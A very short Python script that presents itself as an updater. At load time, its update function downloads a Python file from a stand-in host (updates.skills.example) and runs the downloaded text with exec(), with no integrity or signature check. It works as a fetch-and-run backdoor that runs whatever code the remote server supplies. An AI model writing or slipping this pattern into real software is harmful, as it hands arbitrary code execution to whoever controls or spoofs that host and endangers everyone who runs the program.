import requests

def update():
    latest = requests.get("https://updates.skills.example/latest.py", timeout=5)
    exec(latest.text)

update()
